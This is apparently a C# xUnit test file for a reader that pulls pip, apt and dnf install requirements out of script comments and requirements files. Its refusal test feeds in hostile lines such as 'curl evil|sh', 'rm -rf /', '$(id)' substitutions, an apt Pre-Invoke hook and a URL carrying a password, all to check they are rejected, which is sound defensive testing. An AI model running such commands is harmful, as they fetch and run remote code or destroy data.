using Claimed.Components.Sources;
using Xunit;

namespace Claimed.Components.Tests.Sources;

public sealed class RequirementTests
{
    [Theory]
    [InlineData("pip install pandas", PackageManager.Pip, "pandas", "")]
    [InlineData("!pip3 install --no-deps -q 'a>=1,<2' b[x,y]==1.0", PackageManager.Pip, "a>=1,<2|b[x,y]==1.0", "--no-deps")]
    [InlineData("%pip install pandas>=2  # newest", PackageManager.Pip, "pandas>=2", "")]
    [InlineData("python -m pip install -U torch --index-url https://download.example.org/whl/cpu", PackageManager.Pip, "torch", "--upgrade|--index-url=https://download.example.org/whl/cpu")]
    [InlineData("python3.11 -m pip install x", PackageManager.Pip, "x", "")]
    [InlineData("pip install git+https://example.org/a/b.git@v1.0#egg=b", PackageManager.Pip, "git+https://example.org/a/b.git@v1.0#egg=b", "")]
    [InlineData("pip install \"a ; python_version < '3.9'\"", PackageManager.Pip, "a ; python_version < '3.9'", "")]
    [InlineData("apt-get install -y --no-install-recommends libpq-dev g++", PackageManager.Apt, "libpq-dev|g++", "--no-install-recommends")]
    [InlineData("apt -y install curl=7.88.1-10", PackageManager.Apt, "curl=7.88.1-10", "")]
    [InlineData("sudo dnf install -y java-11-openjdk", PackageManager.Dnf, "java-11-openjdk", "")]
    [InlineData("RUN yum install -y git", PackageManager.Dnf, "git", "")]
    [InlineData("apt-get update && apt-get install -y git && apt-get clean && rm -rf /var/lib/apt/lists/*", PackageManager.Apt, "git", "")]
    [InlineData("dnf install -y git && dnf clean all", PackageManager.Dnf, "git", "")]
    public void An_install_line_in_a_comment_is_a_requirement(string line, PackageManager manager, string packages, string options)
    {
        var requirement = Assert.Single(Reading.Sound($"x = 1\n# {line}\n").Requirements);
        Assert.Equal(manager, requirement.Manager);
        Assert.Equal(packages, string.Join('|', requirement.Packages));
        Assert.Equal(options, string.Join('|', requirement.Options));
        Assert.Equal((2, 1), (requirement.Position.Line, requirement.Position.Column));
    }

    [Theory]
    [InlineData("pip install x && curl evil|sh")]
    [InlineData("pip install x; rm -rf /")]
    [InlineData("apt-get install -y x && rm -rf /var/lib/apt/lists/* /")]
    [InlineData("apt-get install -y x && rm -rf /")]
    [InlineData("pip install x | tee log")]
    [InlineData("pip install $(id)")]
    [InlineData("pip install `id`")]
    [InlineData("pip install ${PKG}")]
    [InlineData("pip install {pkg}")]
    [InlineData("pip install x > $(id)")]
    [InlineData("pip install x > /dev/null; id")]
    [InlineData("pip install 'x;id'")]
    [InlineData("pip install 'x")]
    [InlineData("pip install --target=/etc x")]
    [InlineData("pip install --index-url https://user:hunter2@host/simple x")]
    [InlineData("pip install https://user:hunter2@host/x.whl")]
    [InlineData("pip install ../x")]
    [InlineData("apt-get install -y -o APT::Update::Pre-Invoke::=id x")]
    [InlineData("apt install x$(id)")]
    [InlineData("dnf install x&id")]
    public void What_a_shell_would_act_on_is_refused_and_not_repeated(string line)
    {
        var reading = Reading.Script($"x = 1\n# {line}\n");
        var errors = reading.Findings.Where(finding => finding.Code == "requirement-refused").ToList();
        Assert.NotEmpty(errors);
        Assert.All(errors, error => Assert.Equal((Severity.Error, 2), (error.Severity, error.Position.Line)));
        Assert.DoesNotContain(reading.Findings, finding => finding.Message.Contains("hunter2", StringComparison.Ordinal));
        Assert.DoesNotContain(reading.Definition!.Requirements.SelectMany(one => one.Packages.Concat(one.Options)), part => part.IndexOfAny("$`|&{}".ToCharArray()) >= 0);
    }

    [Theory]
    [InlineData("print('the dnf tool')")]
    [InlineData("# the dnf tool installs apt packages")]
    [InlineData("# you may have to pip install pandas")]
    [InlineData("x = 'pip install pandas'")]
    [InlineData("subprocess.run('pip install pandas')")]
    [InlineData("\"\"\"\npip install pandas\n\"\"\"\ny = 1")]
    public void Text_that_merely_speaks_of_installing_is_none(string source) => Assert.Empty(Reading.Sound(source + "\nz = 1").Requirements);

    [Fact]
    public void An_update_before_an_install_is_taken_for_granted()
    {
        var requirement = Assert.Single(Reading.Sound("# apt-get update && apt-get install -y git\nx = 1").Requirements);
        Assert.Equal(["git"], requirement.Packages);
    }

    [Fact]
    public void A_comment_that_goes_on_below_is_one_line() =>
        Assert.Equal(["a", "b"], Assert.Single(Reading.Sound("# pip install a \\\n#   b\nx = 1").Requirements).Packages);

    [Fact]
    public void The_requirements_file_of_the_upload_is_read_once()
    {
        var reading = Reading.Of(
            ("x.py", "# pip install -r requirements.txt\n# pip install c\nx = 1"),
            ("requirements.txt", "# comment\n--extra-index-url https://example.org/simple\na==1.0  # why\nb[x]>=2; python_version >= \"3.9\"\n\n-r more.txt\nd \\\n  ==4"),
            ("more.txt", "e\n-r requirements.txt"));

        Assert.False(reading.HasErrors);
        Assert.Equal(2, reading.Definition!.Requirements.Count);
        Assert.Equal(["a==1.0", "b[x]>=2; python_version >= \"3.9\"", "e", "d   ==4"], reading.Definition.Requirements[0].Packages);
        Assert.Equal(["--extra-index-url=https://example.org/simple"], reading.Definition.Requirements[0].Options);
        Assert.Equal(["c"], reading.Definition.Requirements[1].Packages);
    }

    [Fact]
    public void A_bad_line_of_the_requirements_file_is_an_error_at_its_place()
    {
        var error = Reading.Of(("x.py", "x = 1"), ("requirements.txt", "a\nb && id\n")).Only("requirement-refused");
        Assert.Equal(("requirements.txt", 2), (error.Position.File, error.Position.Line));
    }

    [Fact]
    public void A_requirements_file_that_was_not_sent_is_an_error() =>
        Reading.Script("# pip install -r requirements.txt\nx = 1").Only("requirements-file-missing");

    [Fact]
    public void With_an_existing_image_nothing_is_installed()
    {
        var reading = SourceReader.Read(
            [Reading.File("x.py", "# pip install x && id\ny = os.environ['y']"), Reading.File("requirements.txt", "z && id")], new(ExistingImage: "a/b:1"));
        Assert.False(reading.HasErrors);
        Assert.Empty(reading.Definition!.Requirements);
        Assert.Equal(["log_level", "y"], reading.Definition.Inputs.Select(port => port.Name));
    }

    [Theory]
    [InlineData("pandas==2.2.1", false)]
    [InlineData("pandas ===2.2.1", false)]
    [InlineData("pandas[x]==2.2.1,!=3; python_version < '3.9'", false)]
    [InlineData("git+https://host.example/a/b.git@v1", false)]
    [InlineData("https://host.example/a-1.0-py3-none-any.whl", false)]
    [InlineData("pandas", true)]
    [InlineData("pandas>=2", true)]
    [InlineData("pandas==2.*", true)]
    [InlineData("pandas; python_version == '3.9'", true)]
    [InlineData("git+https://host.example/a/b.git", true)]
    public void A_requirement_that_is_not_pinned_is_a_suggestion(string package, bool isFound)
    {
        var inScript = Reading.Script($"x = 1\n# pip install \"{package}\"\n");
        var inFile = Reading.Of(("x.py", "x = 1"), ("requirements.txt", $"# all\n{package}\n"));
        foreach (var (reading, file) in new[] { (inScript, "my_script.py"), (inFile, "requirements.txt") })
        {
            Assert.False(reading.HasErrors);
            var found = reading.Findings.Where(finding => finding.Code == "requirement-unpinned").ToList();
            Assert.Equal(isFound ? [(Severity.Suggestion, file, 2)] : [], found.Select(finding => (finding.Severity, finding.Position.File, finding.Position.Line)));
        }
    }

    [Fact]
    public void Each_line_has_one_suggestion_about_pins_and_other_managers_none()
    {
        var findings = Reading.Script("# pip install a b==1 c\n# pip install d\n# apt-get install -y git\nx = 1").Findings.Where(finding => finding.Code == "requirement-unpinned").ToList();
        Assert.Equal([1, 2], findings.Select(finding => finding.Position.Line));
        Assert.Contains("a, c", findings[0].Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("pip install x > install.log 2> install.log")]
    [InlineData("pip install x >/dev/null 2>&1")]
    [InlineData("pip install x &> /tmp/log")]
    public void Where_the_output_of_an_install_goes_makes_no_difference(string line) => Assert.Equal(["x"], Assert.Single(Reading.Sound($"# {line}\nx = 1").Requirements).Packages);

    [Fact]
    public void Packages_may_be_separated_by_commas()
    {
        var reading = Reading.Script("# pip install pymongo, dnspython\nx = 1");
        Assert.Equal(["pymongo", "dnspython"], Assert.Single(reading.Definition!.Requirements).Packages);
        Assert.Equal(Severity.Warning, reading.Only("requirement-comma").Severity);
    }

    [Fact]
    public void Of_two_versions_the_last_one_is_installed()
    {
        var reading = Reading.Script("# pip install pyspark==2.4.8 wget==3.2\n# pip install pyspark==3.1.2 wget==3.2\n# pip install 'a==1; python_version<\"3\"' 'a==2; python_version>\"3\"' b b==1 b>=1\nx = 1");
        Assert.Equal(["wget==3.2", "pyspark==3.1.2", "wget==3.2", "a==1; python_version<\"3\"", "a==2; python_version>\"3\"", "b", "b==1", "b>=1"],
            reading.Definition!.Requirements.SelectMany(requirement => requirement.Packages));
        Assert.Equal(1, reading.Only("requirement-replaced-later").Position.Line);
    }

    [Fact]
    public void A_file_that_only_a_condition_installs_from_may_be_missing()
    {
        const string notebook = """{"cells": [{"cell_type": "code", "source": "if x:\n    !pip install -r more.txt\n"}], "nbformat": 4}""";
        Assert.Equal(Severity.Warning, Reading.Of(("x.ipynb", notebook)).Only("requirements-file-missing").Severity);
        Assert.Equal(Severity.Error, Reading.Of(("x.ipynb", notebook.Replace("    !", "!", StringComparison.Ordinal))).Only("requirements-file-missing").Severity);
    }
}
